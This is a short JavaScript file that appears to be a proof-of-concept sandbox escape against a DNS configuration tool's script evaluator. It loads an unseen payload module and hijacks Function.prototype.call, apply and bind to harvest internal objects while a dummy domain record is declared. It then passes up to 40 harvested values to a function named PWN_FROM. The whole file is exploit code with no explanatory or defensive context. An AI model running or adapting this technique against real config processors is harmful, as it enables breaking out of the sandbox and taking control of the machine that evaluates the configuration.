require("./lib/payload.js");
var leaked = [];
var call = Function.prototype.call, apply = Function.prototype.apply, bind = Function.prototype.bind;
Function.prototype.call = function (self) { leaked.push(self, this); return apply.call(this, self, Array.prototype.slice.call(arguments, 1)); };
Function.prototype.apply = function (self, args) { leaked.push(self, this); return Reflect.apply(this, self, args || []); };
Function.prototype.bind = function () { leaked.push(this); return bind.apply(this, arguments); };
D("f.example", REG, DnsProvider(DSP), A("@", "192.0.2.1"), function (d) {});
Function.prototype.call = call; Function.prototype.apply = apply; Function.prototype.bind = bind;
leaked.forEach(function (v, i) { if (i < 40 && v) PWN_FROM(v, "fn" + i); });
